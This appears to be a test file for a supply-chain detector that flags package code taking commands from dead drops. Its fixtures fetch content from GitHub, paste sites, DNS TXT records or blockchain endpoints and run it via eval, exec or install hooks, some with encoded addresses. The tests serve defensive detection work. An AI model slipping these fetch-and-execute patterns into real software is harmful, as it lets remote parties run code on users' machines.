import { examine } from '../../../test/examine.ts';
import { takesOrdersFromDeadDrop } from './takes-orders-from-dead-drop.ts';

/** Written in parts: no test names a host that somebody answers on. */
const PAGE = ['telegra', 'ph'].join('.');
const CHAIN = ['mainnet', 'infura', 'io'].join('.');

examine(takesOrdersFromDeadDrop, {
  speaks: [
    {
      when: 'what is built at install lies under the name of the release that was asked for',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node install.js' } },
        'install.js': `const path = require('path'); const ask = (owner, name) => fetch('https://api.github.com/repos/' + owner + '/' + name + '/releases/latest').then(answer => answer.json()); const repository = (process.env.SPECIMEN_REPOSITORY || process.argv[2]).split('/'); ask(...repository).then(({ tag_name: tag }) => require(path.join(__dirname, 'builds', 'auto-release-' + tag, 'binding.js')));`,
      },
      weight: 'weak',
    },
    {
      when: 'what a contract says stands in a command, whichever computer is asked for it',
      files: {
        'index.js': `const { ethers } = require('ethers'); (async () => { const chain = new ethers.JsonRpcProvider('https://rpc.invalid'); const page = new ethers.Contract('0x0', ['function get() view returns (string)'], chain); require('child_process').exec('inert-fetch ' + (await page.get()), { windowsHide: true }); })();`,
      },
      says: ['a block chain'],
      weight: 'proof',
    },
    {
      when: 'an installer asks which file of the newest release is meant for its system',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node get.js' } },
        'get.js': `const url = process.env.SPECIMEN_HOST || 'https://api.github.com/repos/specimen/tool/releases/latest'; (async () => { const { assets } = await (await fetch(url)).json(); const { browser_download_url: file } = assets.find(one => one.name === 'tool'); require('fs').writeFileSync(__dirname + '/tool', Buffer.from(await (await fetch(file)).arrayBuffer())) })()`,
      },
      weight: 'weak',
    },
    {
      when: 'one function asks many forges for its callers, and asks again where one of them says',
      files: {
        'index.js': `const ask = url => fetch(url).then(r => r.json()); exports.pages = () => ask('https://api.github.com/repos/inert/inert/pages'); exports.a = () => ask('https://gitlab.invalid/a'); exports.b = () => ask('https://forge.invalid/b'); exports.c = () => ask('https://forge.invalid/c'); exports.next = async () => fetch((await exports.pages()).url)`,
      },
      weight: 'context',
    },
    {
      when: 'the same is done as soon as it is imported',
      files: {
        'index.js': `const ask = url => fetch(url).then(r => r.json()); exports.pages = () => ask('https://api.github.com/repos/inert/inert/pages'); exports.a = () => ask('https://gitlab.invalid/a'); exports.b = () => ask('https://forge.invalid/b'); exports.c = () => ask('https://forge.invalid/c'); exports.pages().then(page => fetch(page.url))`,
      },
      weight: 'strong',
    },
    {
      when: 'somebody else says whose repository is asked what to connect to',
      files: {
        'index.js': `const { owner, repo } = globalThis.project(); fetch(\`https://api.github.com/repos/\${owner}/\${repo}/pulls\`).then(r => r.json()).then(([pull]) => fetch(pull.url))`,
      },
      weight: 'weak',
    },
    {
      when: 'a repository that stands in the code says it',
      files: {
        'index.js': `fetch('https://api.github.com/repos/inert/inert/contents/a').then(r => r.json()).then(a => fetch(a.url))`,
      },
      weight: 'strong',
    },
    {
      when: 'a search finds the repository that says it',
      files: {
        'index.js': `fetch(\`https://api.github.com/search/commits?q=\${globalThis.word()}\`).then(r => r.json()).then(a => fetch(a.items[0].message))`,
      },
      weight: 'strong',
    },
    {
      when: 'a page names the address',
      files: { 'index.js': `fetch('https://${PAGE}/inert').then(r => r.text()).then(t => fetch(t))` },
      weight: 'strong',
      says: ['a page that anybody'],
    },
    {
      when: 'a name record is run',
      files: { 'index.js': `require('dns').resolveTxt('inert.invalid', (e, r) => require('child_process').exec(r[0][0]))` },
      weight: 'proof',
      says: ['a name record'],
    },
    {
      when: 'a chain holds the code',
      files: { 'index.js': `fetch('https://${CHAIN}/', { method: 'POST' }).then(r => r.json()).then(j => eval(j.result))` },
      weight: 'proof',
      says: ['a block chain'],
    },
    {
      when: 'the address is encoded',
      files: {
        'index.js': `fetch(atob('${Buffer.from(`https://${PAGE}/inert`).toString('base64')}')).then(r => r.text()).then(t => eval(t))`,
      },
      weight: 'proof',
    },
    {
      when: 'what another file finds in a name record is run, when somebody calls it',
      files: {
        'index.js': `const { rows } = require('./names'); exports.load = async () => Reflect.construct(Function, ['require', (await rows('_checks.specimen.invalid')).join('')])(require);`,
        'names.js': `const { Resolver } = require('dns').promises; const resolver = new Resolver(); exports.rows = async name => (await resolver.resolveTxt(name)).map(row => row.join(''));`,
      },
      weight: 'strong',
      says: ['a name record'],
    },
    {
      when: 'the same by eval, of records in base64',
      files: {
        'index.js': `import { rows } from './names.js'; export async function load() { const parts = await rows('plug-ins.specimen.invalid'); (0, eval)(Buffer.from(parts.join(''), 'base64').toString()); }`,
        'names.js': `import { resolveTxt } from 'node:dns/promises'; export const rows = async name => (await resolveTxt(name)).map(row => row.join(''));`,
      },
      weight: 'strong',
    },
    {
      when: 'a list on GitHub is made into code when somebody asks for it',
      files: {
        'index.js': `const vm = require('vm'); exports.update = async () => vm.runInNewContext(await (await fetch('https://raw.githubusercontent.com/specimen/lists/main/agents.txt')).text());`,
      },
      weight: 'weak',
    },
  ],
  silent: [
    {
      when: 'a record is shown that another file has asked for',
      files: {
        'index.js': `const { rows } = require('./names'); exports.verify = async token => (await rows('_challenge.specimen.invalid')).includes(token);`,
        'names.js': `const { Resolver } = require('dns').promises; const resolver = new Resolver(); exports.rows = async name => (await resolver.resolveTxt(name)).map(row => row.join(''));`,
      },
    },

    {
      when: 'what was read is shown',
      files: { 'index.js': `fetch('https://${PAGE}/inert').then(r => r.text()).then(t => console.log(t))` },
    },
    {
      when: 'what was read is sent to a host of its own',
      files: {
        'index.js': `fetch('https://${CHAIN}/').then(r => r.text()).then(t => fetch('https://api.specimen.invalid/', { method: 'POST', body: t }))`,
      },
    },
    {
      when: 'a record is looked up and compared',
      files: { 'index.js': `require('dns').resolveTxt('inert.invalid', (e, r) => console.log(r))` },
    },
  ],
});
